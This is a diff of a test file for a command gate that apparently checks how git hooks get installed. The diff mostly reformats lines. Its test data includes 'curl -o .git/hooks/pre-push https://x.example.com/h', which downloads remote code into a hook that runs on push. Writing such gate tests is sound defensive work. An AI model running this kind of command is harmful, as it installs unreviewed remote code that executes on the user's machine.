@@ -61,7 +61,9 @@ def run(gate: Gate, project: Path) -> Check:
         "dd if=hooks/pre-push of=.git/hooks/pre-push",
     ],
 )
-def test_a_source_read_from_disk_with_ordinary_commands_is_allowed(run: Check, command: str) -> None:
+def test_a_source_read_from_disk_with_ordinary_commands_is_allowed(
+    run: Check, command: str
+) -> None:
     decision = run(command)
     assert str(decision.verdict) == "allow", decision.reason
 
@@ -92,7 +94,8 @@ def test_a_source_read_from_disk_is_judged_by_its_text(
     [
         "cp -r hooks .git/",  # a folder: its files are not read
         "rsync -a hooks/ .git/hooks/",
-        "ln -s ../../hooks/pre-push .git/hooks/pre-push",  # a link: changed later through its other name
+        # a link: changed later through its other name
+        "ln -s ../../hooks/pre-push .git/hooks/pre-push",
         "cp missing .git/hooks/pre-push",
         "tar -xf h.tar -C .git/hooks",
         "curl -o .git/hooks/pre-push https://x.example.com/h",
